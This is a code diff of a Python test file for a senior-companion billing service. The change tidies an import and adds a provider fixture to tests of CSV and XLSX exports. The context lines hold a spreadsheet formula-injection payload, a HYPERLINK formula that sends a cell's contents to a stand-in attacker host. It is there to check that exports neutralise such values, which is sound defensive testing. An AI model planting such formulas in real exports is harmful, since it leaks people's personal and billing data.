@@ -15,7 +15,15 @@ from begleitservice.extensions import db
 from begleitservice.models import Senior, Volunteer
 from billing.cells import TRIGGERS, neutralise, restore
 from billing.exports import Column, write_csv, write_xlsx
-from tests.factories import VALID_IKS, make_appointment, make_pairing, make_pflegekasse, make_senior, make_volunteer
+from tests.factories import (
+    VALID_IKS,
+    make_appointment,
+    make_pairing,
+    make_pflegekasse,
+    make_provider,
+    make_senior,
+    make_volunteer,
+)
 
 HOSTILE = {
     "senior_first": '=HYPERLINK("https://evil.example/?d="&A2;"Details")',
@@ -35,6 +43,7 @@ def _is_formula_like(text: str) -> bool:
 def hostile_month(app_ctx, monkeypatch, tmp_path):
     """October 2026, billed: a senior, a volunteer and a Pflegekasse whose names start formulas."""
     monkeypatch.setitem(app_ctx.config, "NOW", datetime(2026, 11, 20, 9, tzinfo=UTC))
+    make_provider()
     kasse = make_pflegekasse(name=HOSTILE["kasse"], ik=VALID_IKS[0], street="Weg 1", postal_code="44269")
     senior = make_senior(
         first_name=HOSTILE["senior_first"],
